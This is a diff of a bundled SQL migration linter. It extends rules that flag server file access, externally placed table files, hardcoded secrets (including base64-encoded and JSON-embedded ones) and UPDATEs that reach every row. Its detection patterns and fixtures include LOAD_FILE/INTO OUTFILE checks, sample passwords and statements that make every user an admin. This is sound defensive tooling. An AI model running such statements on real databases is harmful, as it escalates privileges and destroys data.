         // node-sql-parser accepted the statement but may not model LOAD XML; check the text too.
         if (stmt.ast && /^load\s+xml\b/.test(stmt.lexical))
             mysql_file_access_textCheck(stmt, report, '');
+        directories(stmt, report, '');
     },
     unparsed(stmt, { report }) {
         mysql_file_access_textCheck(stmt, report, sql_ast/* UNPARSED */.lH);
+        directories(stmt, report, sql_ast/* UNPARSED */.lH);
     },
     lexical: [/\binto\s+(outfile|dumpfile)\b/, /\bload\s+(data|xml)\b[^;]*\binfile\b/, /\bload_file\s*\(/],
 };
+/**
+ * `CREATE TABLE … DATA DIRECTORY = '…' / INDEX DIRECTORY = '…'` (also on partitions): the server
+ * writes the table's files wherever the path says (MySQL InnoDB file-per-table, MyISAM), outside the
+ * data directory (https://dev.mysql.com/doc/refman/8.0/en/innodb-create-table-external.html).
+ */
+function directories(stmt, report, suffix) {
+    if (stmt.unit.dialect !== 'mysql' && stmt.unit.dialect !== 'mariadb')
+        return;
+    if (!/^(create|alter)\b/.test(stmt.lexical) || !/\b(data|index)\s+directory\b/.test(stmt.lexical))
+        return;
+    for (const m of (0,sql_ast/* folded */.TM)(stmt).matchAll(/\b(data|index)\s+directory\s*=?\s*('[^']*'|"[^"]*")/gi))
+        report({ message: `${m[1].toUpperCase()} DIRECTORY ${m[2]}: the server writes this table's files at a path the migration chooses, outside its data directory${suffix}.`, key: `dir:${m[1].toLowerCase()}` });
+}
 function mysql_file_access_textCheck(stmt, report, suffix) {
     const t = (0,sql_ast/* folded */.TM)(stmt);
     let m = /\binto\s+(outfile|dumpfile)\s+('[^']*'|"[^"]*")/i.exec(t);
@@ -6116,8 +6638,6 @@ function textRole(stmt, report, suffix = '') {
 }
 /* harmony default export */ const role_attributes = (withDynamic(role_attributes_rule));
 
-// EXTERNAL MODULE: ./src/parse/pg.ts
-var pg = __webpack_require__(8446);
 ;// CONCATENATED MODULE: ./rules/scheduled-job.ts
 
 
@@ -6183,15 +6703,79 @@ var config_file = __webpack_require__(4542);
 
 
 
+
 /** Account password columns: seeded logins are hardcoded-password's (as warnings), not this rule's. */
 const ACCOUNT_PASSWORD = /^(password|passwd|pwd|pass|password_?hash|hashed_password|encrypted_password|crypted_password|password_digest|pass_hash|pw_hash|user_?password|admin_password|password_encrypted|password_crypt)$/i;
 /** Columns that hold a settings row's value (`UPDATE settings SET value = … WHERE key = 'smtp_password'`). */
 const VALUE_COLUMN = /^(value|val|v|data|content|setting|setting_value|config_value|value_text|text_value|string_value|secret|payload)$/i;
 const secret_in_data_NOT_SECRET = /^(|t|f|true|false|yes|no|on|off|null|none|default|changeme_at_deploy)$/i;
-/** A name that holds a secret: `smtp_password`, `app.jwt_secret`, `stripe_api_key`, `webhook_secret`. */
-function secretName(name) {
+/**
+ * A name that holds a secret: `smtp_password`, `app.jwt_secret`, `stripe_api_key`, `webhook_secret`.
+ * An account password column (`password`, `password_hash`) is hardcoded-password's; as a key
+ * (`key: true`: a settings row's key, a setting, a JSON key) a password under a prefix
+ * (`smtp.password`, `mail.pass`) is a service's credential, and in JSON a bare `password` is too.
+ */
+function secretName(name, key = 'column') {
     const n = name.replace(/["`[\]]/g, '').toLowerCase();
-    return (0,config_file/* isSecretKey */.uE)(n) && !ACCOUNT_PASSWORD.test(n.split('.').pop() ?? n) && !/(^|[._-])(min|max|length|policy|expiry|expires|expiration|ttl|type|hint|reset|rotation|version|salt|algorithm|algo|format|prefix|hash)$/.test(n);
+    const last = n.split('.').pop() ?? n;
+    const account = ACCOUNT_PASSWORD.test(last) && (key === 'column' || (key === 'key' && !n.includes('.')) || (key === 'json' && /hash|digest|crypt/.test(last)));
+    return (0,config_file/* isSecretKey */.uE)(n) && !account && !/(^|[._-])(min|max|length|policy|expiry|expires|expiration|ttl|type|hint|reset|rotation|version|salt|algorithm|algo|format|prefix|hash)$/.test(n);
+}
+/**
+ * `'…'`, a cast of one, and a constant decoded in SQL: `decode('…', 'base64' | 'hex')`,
+ * `convert_from(decode(…), 'UTF8')`, MySQL `FROM_BASE64('…')` (the value the database stores).
+ */
+function pgConstText(n) {
+    const c = n?.A_Const ?? n?.TypeCast?.arg?.A_Const;
+    if (c?.sval)
+        return { v: c.sval.sval ?? '', loc: c.location };
+    const f = n?.FuncCall ?? n?.TypeCast?.arg?.FuncCall;
+    const fn = String(f?.funcname?.[f.funcname.length - 1]?.String?.sval ?? '').toLowerCase();
+    if (fn === 'convert_from' && f.args?.length === 2)
+        return pgConstText(f.args[0]);
+    if (fn === 'decode' && f.args?.length === 2) {
+        const v = pgConstText(f.args[0]);
+        const enc = String(f.args[1]?.A_Const?.sval?.sval ?? '').toLowerCase();
+        const text = v && decodedText(v.v, enc);
+        return text !== undefined ? { v: text, loc: v.loc } : undefined;
+    }
+    return undefined;
+}
+/** base64 / hex text decoded, when the bytes are printable UTF-8 (a password, not binary data). */
+function decodedText(s, enc) {
+    if (enc !== 'base64' && enc !== 'hex')
+        return undefined;
+    if (enc === 'base64' ? !/^[A-Za-z0-9+/\s]+=*$/.test(s) : !/^(?:[0-9a-fA-F]{2})+$/.test(s))
+        return undefined;
+    const text = Buffer.from(s.replace(/\s+/g, ''), enc).toString('utf8');
+    return /^[\x20-\x7e]+$/.test(text) ? text : undefined;
+}
+/** Secret-named keys of a JSON object literal (`'{"user":"x","password":"…"}'`), nested keys as a.b. */
+function jsonSecrets(text) {
+    const t = text.trim();
+    if (!t.startsWith('{') || t.length > 100_000)
+        return [];
+    let obj;
+    try {
+        obj = JSON.parse(t);
+    }
+    catch {
+        return [];
+    }
+    const out = [];
+    const visit = (o, path, depth) => {
+        if (!o || typeof o !== 'object' || depth > 20)
+            return;
+        for (const [k, v] of Object.entries(o)) {
+            const p = path ? `${path}.${k}` : k;
+            if (typeof v === 'string' && secretName(k, 'json'))
+                out.push({ key: p, value: v });
+            else
+                visit(v, p, depth + 1);
+        }
+    };
+    visit(obj, '', 0);
+    return out;
 }
 function literalValue(stmt, tok) {
     const innerStart = tok.innerStart ?? tok.start;
@@ -6227,7 +6811,7 @@ function tokenHits(stmt) {
         // name = 'v', name TO 'v', name := 'v'
         if ((t.type === 'punct' && t.text === '=' && toks[k - 1]?.text !== '!' && toks[k - 1]?.text !== '<' && toks[k - 1]?.text !== '>') || (t.type === 'word' && t.value === 'TO')) {
             const name = nameBefore(t.text === '=' && toks[k - 1]?.text === ':' ? k - 1 : k);
-            if (name && secretName(name)) {
+            if (name && secretName(name, name.includes('.') ? 'key' : 'column')) {
                 // In a WHERE clause it is a lookup of a value that is in the database already; still a committed secret.
                 out.push({ where: `\`${name}\``, value: next.value, tok: next });
             }
@@ -6256,7 +6840,7 @@ function tokenHits(stmt) {
     }
     // set_config('app.jwt_secret', 'v', false)
     for (let k = 0; k + 4 < toks.length; k++) {
-        if (toks[k].type === 'word' && toks[k].value === 'SET_CONFIG' && toks[k + 1].text === '(' && toks[k + 2].type === 'string' && toks[k + 3].text === ',' && toks[k + 4].type === 'string' && secretName(toks[k + 2].value)) {
+        if (toks[k].type === 'word' && toks[k].value === 'SET_CONFIG' && toks[k + 1].text === '(' && toks[k + 2].type === 'string' && toks[k + 3].text === ',' && toks[k + 4].type === 'string' && secretName(toks[k + 2].value, 'key')) {
             out.push({ where: `\`${toks[k + 2].value}\` (set_config)`, value: toks[k + 4].value, tok: toks[k + 4] });
         }
     }
@@ -6265,10 +6849,7 @@ function tokenHits(stmt) {
 /** INSERT rows: a literal into a secret-named column, or a key/value row ('smtp_password', 'v'), also when an UPDATE sets it. */
 function insertHits(stmt) {
     const out = [];
-    const pgStr = (n) => {
-        const c = n?.A_Const ?? n?.TypeCast?.arg?.A_Const;
-        return c?.sval ? { v: c.sval.sval ?? '', loc: c.location } : undefined;
-    };
+    const pgStr = pgConstText;
     const rows = (cols, table, items) => {
         for (const row of items) {
             row.forEach((cell, i) => {
@@ -6278,14 +6859,17 @@ function insertHits(stmt) {
                     out.push({ where: `${table}.${cols[i]}`, value: cell.v, location: cell.loc });
                 const next = row[i + 1];
                 // Key/value settings rows: the key names a secret, the next literal is its value.
-                if (next && secretName(cell.v) && /^[A-Za-z_][\w.-]*$/.test(cell.v) && !(cols[i + 1] && secretName(cols[i + 1])))
+                if (next && secretName(cell.v, 'key') && /^[A-Za-z_][\w.-]*$/.test(cell.v) && !(cols[i + 1] && secretName(cols[i + 1])))
                     out.push({ where: `${table} row \`${cell.v}\``, value: next.v, location: next.loc });
+                // A JSON object stored as a value: its secret-named keys.
+                for (const j of jsonSecrets(cell.v))
+                    out.push({ where: `${table}${cols[i] ? `.${cols[i]}` : ''} JSON key \`${j.key}\``, value: j.value, location: cell.loc });
             });
         }
     };
     // Key/value settings rows changed in place: `UPDATE settings SET value = 'v' WHERE key = 'smtp_password'`.
     const updated = (table, keys, sets) => {
-        const key = keys.find((k) => secretName(k.key) && /^[A-Za-z_][\w.-]*$/.test(k.key));
+        const key = keys.find((k) => secretName(k.key, 'key') && /^[A-Za-z_][\w.-]*$/.test(k.key));
         if (!key)
             return;
         // The value column: the only literal set, else the ones named like a value (`value`, `setting_value`, `data`).
@@ -6310,11 +6894,22 @@ function insertHits(stmt) {
             updated((0,sql_ast/* rangeVarName */.KW)(v.relation), keys, (v.targetList ?? []).map((t) => ({ col: String(t?.ResTarget?.name ?? ''), cell: pgStr(t?.ResTarget?.val) })));
             return;
         }
+        // json_build_object('user', 'x', 'password', '…'): key/value pairs.
+        if (k === 'FuncCall' && /^jsonb?_build_object$/.test(String(v.funcname?.[v.funcname.length - 1]?.String?.sval ?? ''))) {
+            const args = v.args ?? [];
+            for (let i = 0; i + 1 < args.length; i += 2) {
+                const key = pgStr(args[i]);
+                const val = pgStr(args[i + 1]);
+                if (key && val && secretName(key.v, 'json'))
+                    out.push({ where: `json_build_object key \`${key.v}\``, value: val.v, location: val.loc });
+            }
+            return;
+        }
         if (k !== 'InsertStmt')
             return;
-        const cols = (v.cols ?? []).map((c) => String(c?.ResTarget?.name ?? ''));
+        const table = (0,sql_ast/* rangeVarName */.KW)(v.relation);
         const lists = (v.selectStmt?.SelectStmt?.valuesLists ?? []).map((r) => (r?.List?.items ?? []).map(pgStr));
-        rows(cols, (0,sql_ast/* rangeVarName */.KW)(v.relation), lists);
+        rows((0,src_state/* insertColumns */.tP)(stmt, table, (v.cols ?? []).map((c) => String(c?.ResTarget?.name ?? '')), lists), table, lists);
     });
     const a = stmt.ast;
     const nspStr = (x) => (typeof x?.value === 'string' && /string/.test(String(x.type)) ? { v: x.value } : undefined);
@@ -6338,10 +6933,10 @@ function insertHits(stmt) {
     }
     if (a && (a.type === 'insert' || a.type === 'replace')) {
         const name = (c) => String(typeof c === 'string' ? c : (c?.column?.expr?.value ?? c?.column ?? c?.value ?? ''));
-        const cols = (a.columns ?? []).map(name);
         const vals = a.values?.values ?? (Array.isArray(a.values) ? a.values : []);
         const lists = vals.map((r) => (r?.value ?? []).map((x) => (typeof x?.value === 'string' && /string/.test(String(x.type)) ? { v: x.value } : undefined)));
-        rows(cols, String(a.table?.[0]?.table ?? '?'), lists);
+        const table = String(a.table?.[0]?.table ?? '?');
+        rows((0,src_state/* insertColumns */.tP)(stmt, table, (a.columns ?? []).map(name), lists), table, lists);
     }
     return out;
 }
@@ -6369,6 +6964,11 @@ const secret_in_data_rule = {
                 { sql: "INSERT INTO settings (name, value) VALUES ('smtp_password', 'Sm7p-Pa55-2024')", dialect: 'mysql' },
                 { sql: 'from alembic import op\nrevision = "1"\ndown_revision = None\nADMIN_PASSWORD = "Adm1n-Secret-77"\n\ndef upgrade():\n    pass\n', path: 'migrations/versions/1_x.py' },
                 { sql: 'from django.db import migrations\nAPI_KEY: str = "key-3ax6xnjp29jd6fds4gc373sgvjxteol0"\n\nclass Migration(migrations.Migration):\n    operations = []\n', path: 'app/migrations/0002_x.py' },
+                { sql: "-- +goose Up\n-- +goose ENVSUB ON\nALTER ROLE svc PASSWORD '${SVC_PASSWORD:-Zq8mW2pvR7xx}';\n", path: 'migrations/00002_x.sql' },
+                { sql: "INSERT INTO settings (name, value) VALUES ('smtp.password', 'Sm7p-Pa55-2024');" },
+                { sql: "INSERT INTO settings (name, value) VALUES ('smtp', '{\"user\": \"mailer\", \"password\": \"Sm7p-Pa55-2024\"}');" },
+                { sql: "INSERT INTO settings (name, value) VALUES ('smtp', jsonb_build_object('user', 'mailer', 'password', 'Sm7p-Pa55-2024')::text);" },
+                { sql: "INSERT INTO settings (name, value) VALUES ('smtp_pass', convert_from(decode('U203cC1QYTU1LTIwMjQ=', 'base64'), 'UTF8'));" },
             ],
             good: [
                 { sql: "INSERT INTO settings (name, value) VALUES ('password_min_length', '12');" },
@@ -6380,11 +6980,39 @@ const secret_in_data_rule = {
                 { sql: "UPDATE settings SET value = '' WHERE key = 'smtp_password';" },
                 { sql: "UPDATE settings SET description = 'SMTP relay', label = 'Mail' WHERE key = 'smtp_password';" },
                 { sql: "INSERT INTO users (email, password) VALUES ('a@b.c', '$2b$10$abcdefghijklmnopqrstuv');" },
+                { sql: "INSERT INTO auth_methods (name, kind) VALUES ('password', 'builtin');" },
+                { sql: "INSERT INTO settings (name, value) VALUES ('password_policy', '{\"min_length\": 12}');" },
+                { sql: "-- +goose Up\n-- +goose ENVSUB ON\nALTER ROLE svc PASSWORD '${SVC_PASSWORD}';\n", path: 'migrations/00002_x.sql' },
                 { sql: 'from alembic import op\nimport os\nrevision = "1"\ndown_revision = None\nADMIN_PASSWORD = os.environ["ADMIN_PASSWORD"]\nTOKEN_TYPE = "bearer"\nSCOPES = {"consent_webhook_token": "webhook"}\n\ndef upgrade():\n    op.execute("UPDATE users SET auth_method = \'Mealie\' WHERE password = \'LDAP\'")\n', path: 'migrations/versions/1_x.py' },
             ],
         },
     },
     checkFile(ex, { report }) {
+        // SQL templates: the default of a placeholder (`${SVC_PASSWORD:-…}`: goose ENVSUB and envsubst
+        // `:-`/`-`/`:=`/`=`, Spring-style `:`) is what the database gets whenever the variable is unset.
+        // The SQL rules see the placeholder neutralized (src/extract/sql.ts), so the default is read here.
+        if ((ex.kind === 'sql' || ex.kind === 'prisma' || ex.kind === 'liquibase') && ex.text.includes('${')) {
+            let i = 0;
+            for (const m of ex.text.matchAll(/\$\{([A-Za-z_][A-Za-z0-9_.]*)(?::?[-=]|:)([^}\n]+)\}/g)) {
+                const value = m[2];
+                if (!secretName(m[1], 'key') && !ACCOUNT_PASSWORD.test(m[1].toLowerCase().split(/[._]/).pop() ?? ''))
+                    continue;
+                const verdict = (0,credentials/* classifyValue */.Ws)(value, 'code');
+                if (verdict === 'placeholder' || secret_in_data_NOT_SECRET.test(value.trim()) || value.trim().length < 4)
+                    continue;
+                const start = m.index + m[0].length - 1 - value.length;
+                const p = ex.lines.pos(start);
+                report({
+                    message: `Hardcoded secret as the default of template variable \`${m[1]}\`: whenever it is unset, this value is used; it is committed to the repository for good. Drop the default and fail when the variable is missing.${(0,credentials/* verdictNote */.gG)(verdict, value)}`,
+                    line: p.line,
+                    column: p.column,
+                    secrets: (0,credentials/* secretForms */.eo)(value),
+                    key: `tpl:${m[1]}:${i++}`,
+                    snippet: (0,credentials/* maskedLine */.qL)(ex.text, start, [{ start, end: start + value.length }]),
+                });
+            }
+            return;
+        }
         // Python migrations: module constants and keyword arguments holding a secret
         // (`DB_PASSWORD = "…"`, `URL.create(…, password="…")`, `{"api_key": "…"}`).
         if (ex.kind !== 'alembic' && ex.kind !== 'django' && ex.kind !== 'python')
@@ -6709,8 +7337,6 @@ const security_definer_rule = {
 };
 /* harmony default export */ const security_definer = (withDynamic(security_definer_rule));
 
-// EXTERNAL MODULE: ./src/sql/fold.ts
-var fold = __webpack_require__(1649);
 ;// CONCATENATED MODULE: ./rules/sequence-reset.ts
 
 
@@ -7464,6 +8090,7 @@ const shadow_builtin_rule = {
                 { sql: 'CREATE OR REPLACE FUNCTION now() RETURNS timestamptz LANGUAGE sql AS $$ SELECT pg_catalog.now() $$;' },
                 { sql: 'CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = varchar_eq_ci);' },
                 { sql: 'CREATE CAST (text AS integer) WITH FUNCTION to_int(text) AS IMPLICIT;' },
+                { sql: 'CREATE CAST (integer AS text) WITH FUNCTION public.int_to_text(int) AS ASSIGNMENT;' },
                 { sql: "DO $$ BEGIN EXECUTE 'CREATE FUNCTION public.upper(varchar) RETURNS text LANGUAGE sql AS ''SELECT 1::text'''; END $$;" },
             ],
             good: [
@@ -7503,12 +8130,15 @@ const shadow_builtin_rule = {
             return;
         }
         const c = stmt.pg?.CreateCastStmt;
-        if (c?.context === 'COERCION_IMPLICIT' && builtinType(c.sourcetype) && builtinType(c.targettype)) {
+        if ((c?.context === 'COERCION_IMPLICIT' || c?.context === 'COERCION_ASSIGNMENT') && builtinType(c.sourcetype) && builtinType(c.targettype)) {
             const t = (x) => (0,sql_ast/* names */.Dy)(x?.names).replace(/^pg_catalog\./, '');
-            report({ message: `Creates an implicit cast from ${t(c.sourcetype)} to ${t(c.targettype)}: expressions that mix the two now resolve differently everywhere, and the cast's function runs inside them${where}.`, key: `${t(c.sourcetype)}->${t(c.targettype)}` });
+            // AS ASSIGNMENT: every INSERT/UPDATE that stores one type into a column of the other converts through it.
+            const how = c.context === 'COERCION_IMPLICIT' ? 'an implicit cast' : 'an assignment cast';
+            const what = c.context === 'COERCION_IMPLICIT' ? 'expressions that mix the two now resolve differently everywhere' : 'every INSERT or UPDATE that stores one into a column of the other now converts through it';
+            report({ message: `Creates ${how} from ${t(c.sourcetype)} to ${t(c.targettype)}: ${what}, and the cast's function runs inside them${where}.`, key: `${t(c.sourcetype)}->${t(c.targettype)}` });
         }
     },
-    lexical: [/\bcreate\s+cast\b[^;]*\bas\s+implicit\b/],
+    lexical: [/\bcreate\s+cast\b[^;]*\bas\s+(implicit|assignment)\b/],
 };
 /* harmony default export */ const shadow_builtin = (withDynamic(shadow_builtin_rule));
 
@@ -7884,21 +8514,9 @@ const truncate_rule = {
 ;// CONCATENATED MODULE: ./rules/update-without-where.ts
 
 
-/** Every UpdateStmt in the tree (also in CTEs and rule actions), not inside function bodies (parsed separately). */
-function updates(stmt) {
-    const out = [];
-    if (stmt.pg?.UpdateStmt)
-        out.push(stmt.pg.UpdateStmt);
-    if (!(0,sql_ast/* hasNode */.j4)(stmt.pg, 'UpdateStmt'))
-        return out;
-    (0,sql_ast/* walk */.GG)(stmt.pg, (k, v) => {
-        if (k === 'sql_body' || k === 'CreateFunctionStmt')
-            return false;
-        if (k === 'UpdateStmt' && v !== stmt.pg?.UpdateStmt)
-            out.push(v);
-    });
-    return out;
-}
+
+/** `insert [or …] into t … select … from t … on conflict … do update` in a statement's lexical form (linear: the lookahead runs once per INSERT). */
+const SELF_UPSERT = /\binsert\s+(?:or\s+[a-z]+\s+)?into\s+([a-z_][a-z0-9_.]*)(?=[^;]*\bon\s+conflict\b[^;]*\bdo\s+update\b)[^;]*?\bselect\b[^;]*?\bfrom\s+\1(?![a-z0-9_.])/;
 /** The names a column of the UPDATE's target can be written with: `c`, `t.c`, `alias.c`, `schema.t.c`. */
 function ownColumn(node, column, relation) {
     const fields = node?.ColumnRef?.fields?.map((f) => f?.String?.sval);
@@ -7964,7 +8582,10 @@ const update_without_where_rule = {
             'Filling only columns added earlier in the same file (a backfill) overwrites no existing data: it is a warning (it still rewrites ' +
             'and locks every row), and updating a table created in the same file is info. A SET that keeps every value that is not NULL ' +
             '(`c = COALESCE(c, 0)`, MySQL/SQLite `IFNULL(c, 0)`, `CASE WHEN c IS NULL THEN 0 ELSE c END`) only fills NULLs, as ' +
-            '`SET c = 0 WHERE c IS NULL` does: a warning too.',
+            '`SET c = 0 WHERE c IS NULL` does: a warning too. A row always matches itself: `UPDATE t SET … FROM t v WHERE t.id = v.id`, ' +
+            '`MERGE INTO t USING (SELECT id FROM t) s ON t.id = s.id`, and an upsert of the table\'s own rows (`INSERT INTO t (id, …) SELECT id, … FROM t ' +
+            'ON CONFLICT (id) DO UPDATE`, MySQL `ON DUPLICATE KEY UPDATE`, `REPLACE INTO t … SELECT … FROM t`) reach every row. A variable of the ' +
+            'enclosing function or DO block in the WHERE has one value per statement.',
         fix: 'Add the WHERE clause that selects the rows to change; for an intended full backfill, batch it on large tables and get it approved.',
         examples: {
             bad: [
@@ -7986,6 +8607,13 @@ const update_without_where_rule = {
                 { sql: 'UPDATE users SET active = 0 WHERE EXISTS (SELECT 1 FROM maintenance_mode)', dialect: 'mysql' },
                 { sql: 'UPDATE users u JOIN plans p ON p.free = 1 SET u.plan_id = p.id', dialect: 'mysql' },
                 { sql: 'UPDATE users SET active = 0 WHERE ? = 1', dialect: 'mysql' },
+                { sql: 'UPDATE users u SET password_hash = NULL FROM users v WHERE u.id = v.id;' },
+                { sql: "MERGE INTO users u USING (SELECT id FROM users) s ON u.id = s.id WHEN MATCHED THEN UPDATE SET role = 'admin';" },
+                { sql: "INSERT INTO users (id, email, role) SELECT id, email, 'admin' FROM users ON CONFLICT (id) DO UPDATE SET role = EXCLUDED.role;" },
+                { sql: "INSERT INTO users (id, email) SELECT id, email FROM users ON DUPLICATE KEY UPDATE role = 'admin'", dialect: 'mysql' },
+                { sql: "REPLACE INTO users (id, email, password, role) SELECT id, email, '', 'admin' FROM users", dialect: 'mysql' },
+                { sql: "INSERT INTO users (id, email) SELECT id, email FROM users WHERE true ON CONFLICT(id) DO UPDATE SET role = 'admin'", dialect: 'sqlite' },
+                { sql: "DO $$ DECLARE all_rows boolean := true; BEGIN UPDATE users SET role = 'admin' WHERE all_rows; END $$;" },
             ],
             good: [
                 { sql: 'UPDATE users u JOIN plans p ON p.id = u.plan_id SET u.price = p.price', dialect: 'mysql' },
@@ -7998,6 +8626,12 @@ const update_without_where_rule = {
                 { sql: 'UPDATE users SET role = 1 WHERE email IS NULL;' },
                 { sql: 'UPDATE orders SET total = p.total FROM prices p WHERE p.id = price_id;' },
                 { sql: 'MERGE INTO users u USING updates x ON u.id = x.id WHEN MATCHED THEN UPDATE SET email = x.email;' },
+                { sql: 'UPDATE users u SET role = v.role FROM users v WHERE u.manager_id = v.id;' },
+                { sql: 'INSERT INTO users (id, email, role) SELECT id, email, role FROM users ON CONFLICT (id) DO UPDATE SET role = EXCLUDED.role;' },
+                { sql: "INSERT INTO users (id, email) SELECT id + 1000, email FROM users ON CONFLICT (id) DO UPDATE SET role = 'x';" },
+                { sql: 'INSERT INTO archive (id, email) SELECT id, email FROM users ON CONFLICT (id) DO UPDATE SET email = EXCLUDED.email;' },
+                { sql: "INSERT INTO users (id, email) SELECT id, email FROM users ON DUPLICATE KEY UPDATE email = VALUES(email)", dialect: 'mysql' },
+                { sql: "DO $$ DECLARE uid bigint := 3; BEGIN UPDATE users SET role = 'admin' WHERE id = uid; END $$;" },
             ],
         },
     },
@@ -8023,16 +8657,21 @@ const update_without_where_rule = {
         };
         // Only NULLs change (every SET keeps the column's other values): a warning, info on a table made here.
         const emitFills = (table, cols, how, offset) => report({ message: fillsMessage(cols, table, how, where), severity: (0,sql_ast/* createdEarlier */.nR)(stmt, table) ? 'info' : 'warning', offset, key: table });
-        for (const u of updates(stmt)) {
+        for (const u of (0,sql_ast/* nodesOf */.Nh)(stmt, 'UpdateStmt')) {
             const targets = u.targetList ?? [];
             let how;
             let offset = (0,sql_ast/* nodeOffset */.Yw)(stmt, u.relation?.location);
             if (u.whereClause && !(0,sql_ast/* alwaysTrue */.MH)(u.whereClause)) {
+                // In a function or DO body, a bare name may be a variable: one value for the whole statement.
+                const isVar = (0,sql_ast/* bodyVariable */.Ne)(stmt, (0,sql_ast/* rangeVarName */.KW)(u.relation), (t) => (0,src_state/* stateOf */.L4)(stmt)?.columns(stmt, t));
+                let col;
                 // UPDATE … FROM other WHERE <condition on other only>: every target row is updated.
-                if ((u.fromClause ?? []).length && !(0,sql_ast/* mentionsTarget */.jy)(u.whereClause, u.relation))
+                if ((u.fromClause ?? []).length && !(0,sql_ast/* mentionsTarget */.jy)(u.whereClause, u.relation, isVar))
                     how = 'FROM join without a condition on the target table: the WHERE clause does not mention it';
-                else if ((0,sql_ast/* rowIndependent */.V7)(u.whereClause, u.relation))
+                else if ((0,sql_ast/* rowIndependent */.V7)(u.whereClause, u.relation, isVar))
                     how = 'the WHERE clause names none of its columns: it holds for every row or for none';
+                else if ((col = selfJoinEveryRow(u.whereClause, u.relation, u.fromClause)))
+                    how = `the WHERE clause matches each row with the table's own rows on ${col}: every row whose ${col} is not NULL matches itself`;
                 else
                     continue;
             }
@@ -8048,10 +8687,59 @@ const update_without_where_rule = {
             else
                 emit((0,sql_ast/* rangeVarName */.KW)(u.relation), setColumns(targets.filter((_, i) => !kept[i])), how, offset);
         }
-        for (const { merge, clause, how } of (0,sql_ast/* mergeActionsOnEveryRow */.ss)(stmt, 'CMD_UPDATE')) {
+        for (const { merge, clause, how } of mergeActionsOnEveryRow(stmt, 'CMD_UPDATE')) {
             emit((0,sql_ast/* rangeVarName */.KW)(merge.relation), setColumns(clause.targetList ?? []), how, (0,sql_ast/* nodeOffset */.Yw)(stmt, merge.relation?.location));
         }
+        // INSERT … SELECT of the table's own rows ON CONFLICT (key) DO UPDATE: every row conflicts with
+        // itself, so the DO UPDATE is an UPDATE of every row. `SET c = EXCLUDED.c` for a column copied
+        // onto itself keeps the value; the others overwrite it.
+        for (const ins of (0,sql_ast/* nodesOf */.Nh)(stmt, 'InsertStmt')) {
+            const oc = ins.onConflictClause;
+            if (oc?.action !== 'ONCONFLICT_UPDATE' || (oc.whereClause && !(0,sql_ast/* alwaysTrue */.MH)(oc.whereClause)))
+                continue;
+            const same = upsertFromItself(ins);
+            if (!same)
+                continue;
+            const keeps = (t) => {
+                const r = t?.ResTarget;
+                const f = r?.val?.ColumnRef?.fields?.map((x) => x?.String?.sval);
+                const excluded = f?.length === 2 && f[0] === 'excluded' && f[1] === r.name && (same.has('*') || same.has(r.name));
+                return excluded || keepsValues(t, ins.relation);
+            };
+            const cols = setColumns((oc.targetList ?? []).filter((t) => !keeps(t)));
+            if (!cols.length)
+                continue;
+            const keys = (oc.infer?.indexElems ?? []).map((e) => e?.IndexElem?.name).filter(Boolean).join(', ') || oc.infer?.conname || '…';
+            emit((0,sql_ast/* rangeVarName */.KW)(ins.relation), cols, `INSERT … SELECT of its own rows ON CONFLICT (${keys}) DO UPDATE: every row conflicts with itself`, (0,sql_ast/* nodeOffset */.Yw)(stmt, ins.relation?.location));
+        }
         const a = stmt.ast;
+        // The same in MySQL/MariaDB/SQLite: ON DUPLICATE KEY UPDATE (`c = VALUES(c)` of a copied column
+        // keeps it); REPLACE and INSERT OR REPLACE delete each conflicting row and insert the new one, so
+        // every column not copied onto itself gets the new value or its default.
+        if (a?.type === 'insert' || a?.type === 'replace') {
+            const same = upsertFromItselfNsp(a);
+            const replace = a.type === 'replace' || (a.or ?? []).some((o) => /^replace$/i.test(String(o?.value)));
+            if (same && (replace || a.on_duplicate_update)) {
+                const table = (0,sql_ast/* nspTable */.Uw)(Array.isArray(a.table) ? a.table[0] : a.table);
+                const keepsNsp = (x) => {
+                    const name = (0,sql_ast/* nspColumn */.kb)(x?.column).toLowerCase();
+                    const v = x?.value;
+                    const fn = v?.type === 'function' ? (v.name?.name ?? []).map((p) => p?.value).join('.').toLowerCase() : '';
+                    const copied = same.has('*') || same.has(name);
+                    return keepsValuesNsp(x, Array.isArray(a.table) ? a.table[0] : a.table) || (copied && fn === 'values' && (0,sql_ast/* nspColumn */.kb)(v.args?.value?.[0]).toLowerCase() === name);
+                };
+                let cols;
+                if (replace) {
+                    cols = (a.columns ?? []).map((c) => (0,sql_ast/* nspColumn */.kb)(c)).filter((c) => !same.has(c.toLowerCase()));
+                    if (!same.has('*'))
+                        cols.push('every column not listed (its default)');
+                }
+                else
+                    cols = [...new Set((a.on_duplicate_update.set ?? []).filter((x) => !keepsNsp(x)).map((x) => (0,sql_ast/* nspColumn */.kb)(x?.column)))];
+                if (cols.length)
+                    emit(table, cols, `${replace ? 'REPLACE' : 'INSERT'} … SELECT of its own rows${replace ? '' : ' ON DUPLICATE KEY UPDATE'}: every row whose key it copies conflicts with itself`);
+            }
+        }
         if (a?.type === 'update') {
             const tables = a.table ?? [];
             const sets = a.set ?? [];
@@ -8075,6 +8763,13 @@ const update_without_where_rule = {
             else
                 emit(table, columns(sets.filter((_, i) => !kept[i])), how);
         }
+    },
+    // SQLite's upsert (ON CONFLICT … DO UPDATE, the syntax PostgreSQL established: sqlite.org/lang_upsert.html)
+    // is valid SQL the MySQL/SQLite parser has no tree for: the self-copy is read from the text.
+    unparsed(stmt, { report }) {
+        const m = SELF_UPSERT.exec(stmt.lexical);
+        if (m)
+            report({ message: `Overwrites columns in every row of ${m[1]} (INSERT … SELECT of its own rows ON CONFLICT … DO UPDATE, read from the statement's text: every row conflicts with itself)${(0,sql_ast/* nestedSuffix */.Vv)(stmt)}.`, key: m[1] });
     },
     lexical: [/(^|;\s*|\b(begin|then|else|loop|as|row|do)\s+)update\s+[^\s;]+(\s+(as\s+)?[a-z_][a-z0-9_]*)?\s+set\s+(?!.*\bwhere\b)[^;]*(;|$)/, /\bupdate\b.*\bset\b.*\bwhere\s+(true|1\s*=\s*1|'([^']*)'\s*=\s*'\2')\s*(;|$)/],
 };
@@ -9274,6 +9969,13 @@ const STRIPE_WEBHOOK_RE = /(?<![A-Za-z0-9_])whsec_[A-Za-z0-9]{24,}(?![A-Za-z0-9_
 /** Line-comment prefixes a commented-out block may carry on every line (SQL, shell/Python/YAML, C-style). */
 const LINE_COMMENT_PREFIX = /^([ \t]*)(--|#|\/\/|;)[ \t]?/gm;
 const GOOGLE_API_KEY_RE = /(?<![A-Za-z0-9_-])AIza[0-9A-Za-z_-]{35}(?![A-Za-z0-9_-])/g;
+/**
